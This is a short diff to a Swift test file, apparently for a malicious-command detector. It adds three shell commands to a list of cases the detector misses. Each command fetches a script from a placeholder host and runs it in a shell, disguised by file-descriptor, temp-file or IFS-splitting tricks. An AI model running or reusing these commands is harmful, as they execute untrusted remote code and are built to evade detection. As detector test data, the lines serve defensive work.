@@ -6,6 +6,12 @@ import Testing
 struct MaliciousCommandTests {
   /// The commands that are not detected, held-out ones included.
   private static let missed: Set<String> = [
+    // A descriptor that was opened on the output of a download.
+    "exec 3< <(curl -s http://fix.example/s); bash <&3",
+    // A file whose name is not in the text.
+    "f=/tmp/.$RANDOM; curl -s http://203.0.113.7/s -o \"$f\" && sh \"$f\"",
+    // Words kept apart by a separator that the text defines itself.
+    "IFS=,;c=curl,-s,http://fix.example/s;$c|sh",
   ]
 
   @Test(arguments: ["malicious-linux.txt", "malicious-windows.txt"], [false, true])
